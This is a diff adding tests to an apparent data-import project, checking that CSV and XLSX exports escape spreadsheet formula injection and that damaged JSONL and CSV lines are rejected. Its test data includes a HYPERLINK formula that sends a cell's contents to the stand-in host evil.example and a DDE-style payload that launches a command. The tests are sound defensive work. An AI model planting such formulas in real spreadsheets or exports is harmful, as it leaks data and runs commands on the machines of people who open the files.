@@ -431,3 +431,110 @@ def test_import_command_leaves_records_searchable(tmp_path, taxonomies, settings
     assert "organization" in {h.type for h in results.hits}
     results = service.search("lua chiu man")
     assert [h.type for h in results.hits] == ["expert"]
+
+
+# --- Spreadsheet formula injection (issue #15 item 3) ------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"bấm vào")',
+    "=1+1",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "'=already quoted",
+]
+
+
+def test_escape_formula_is_exactly_undone_by_the_reader():
+    for value in [*FORMULAS, "\t=1+1", "\r=1+1", "''@x", "-5", "+84 912 345 678", "'quoted", ""]:
+        escaped = importing.escape_formula(value)
+        assert importing.unescape_formula(escaped) == value
+        if value[:2] in ("=H", "=1", "+1", "-2", "@S", "'=", "\t=", "\r=", "''"):
+            assert escaped.startswith("'"), value
+    assert importing.escape_formula("-5") == "-5"  # a plain number is not a formula
+    assert importing.escape_formula(12) == 12
+
+
+def test_export_writes_no_live_formula_and_reimport_reads_the_same(tmp_path, taxonomies):
+    importing.run_import("organizations", write(tmp_path, "orgs.csv", ORG_CSV))
+    names = {f"ORG-F{i}": value for i, value in enumerate(FORMULAS)}
+    for key, value in names.items():
+        Organization.objects.create(external_id=key, name=value, short_name=value[:20])
+    for ext in ("csv", "xlsx"):
+        out = tmp_path / f"out.{ext}"
+        importing.run_export("organizations", out)
+        if ext == "xlsx":
+            sheet = load_workbook(out).worksheets[0]  # not data_only: formulas would show
+            cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value]
+            assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
+            assert {c.value for c in cells} >= set(FORMULAS)
+        else:
+            text = out.read_text(encoding="utf-8-sig")
+            assert "\n=1+1" not in text and ",=1+1" not in text
+            assert "'=1+1" in text and "'@SUM(1+1)" in text and "'-2+3" in text
+            assert "''=already quoted" in text
+        result = importing.run_import("organizations", out)
+        assert result.ok, result.rejected
+        assert (result.created, result.updated, result.unchanged) == (0, 0, 2 + len(names)), ext
+    for key, value in names.items():
+        assert Organization.objects.get(external_id=key).name == value
+
+
+def test_xlsx_row_keeps_formula_text_as_a_string_in_both_workbook_modes(tmp_path):
+    for write_only in (False, True):
+        wb = Workbook(write_only=write_only)
+        ws = wb.create_sheet("s") if write_only else wb.active
+        ws.append(importing.xlsx_row(ws, ["=1+1", 3, None, "text"]))
+        wb.save(tmp_path / "x.xlsx")
+        cell = load_workbook(tmp_path / "x.xlsx").worksheets[0]["A1"]
+        assert (cell.value, cell.data_type) == ("=1+1", "s")
+
+
+def test_report_csv_is_neutralised():
+    from openstx.reports.registry import COUNT, Indicator, Row
+    from openstx.reports.services import IndicatorTable, to_csv
+
+    indicator = Indicator()
+    indicator.key, indicator.unit = "k", COUNT
+    rows = [Row(year=2020, group="=1+1", label="@cmd", value=1)]
+    table = IndicatorTable(indicator, 2020, 2020, [2020], [], rows=rows)
+    text = to_csv(table)
+    assert "'=1+1" in text and "'@cmd" in text
+
+
+# --- Damaged files (issue #15 item 7) ----------------------------------------------------------
+
+
+def test_jsonl_with_invalid_utf8_rejects_that_line_and_imports_the_rest(tmp_path, db, capsys):
+    lines = [
+        '{"external_id": "a", "name": "Một"}'.encode(),
+        b'{"external_id": "b", "name": "\xff\xfe bad"}',
+        b'{"external_id": "c", "name": "Ba"}',
+    ]
+    path = write(tmp_path, "t.jsonl", b"\n".join(lines) + b"\n")
+    result = importing.run_import("test-things", path)
+    assert sorted(STORE) == ["a", "c"]
+    assert [(r.line, "UTF-8" in r.reason) for r in result.rejected] == [(2, True)]
+
+
+def test_csv_with_an_unbalanced_quote_rejects_that_line_and_imports_the_rest(tmp_path, db):
+    content = 'external_id,name\na,One\nb,"Two\nc,Three\nd,"Four"x\ne,Five\n'
+    result = importing.run_import("test-things", write(tmp_path, "t.csv", content))
+    assert sorted(STORE) == ["a", "c", "e"]
+    assert [r.line for r in result.rejected] == [3, 5]
+    assert "quote" in result.rejected[0].reason
+    assert STORE["c"]["name"] == "Three"
+
+
+def test_import_command_names_the_bad_lines_and_exits_non_zero(tmp_path, db, capsys):
+    path = write(tmp_path, "t.jsonl", b'{"external_id": "a", "name": "A"}\n\xc3(\n')
+    with pytest.raises(CommandError) as exc:
+        call_command("import", "test-things", str(path), "--no-progress", "--no-index")
+    assert exc.value.returncode == 1
+    assert "line 2" in capsys.readouterr().err
+    path = write(tmp_path, "t.csv", 'external_id,name\nb,"B\nc,C\n')
+    with pytest.raises(CommandError) as exc:
+        call_command("import", "test-things", str(path), "--no-progress", "--no-index")
+    assert exc.value.returncode == 1
+    assert "line 2" in capsys.readouterr().err
+    assert sorted(STORE) == ["a", "c"]
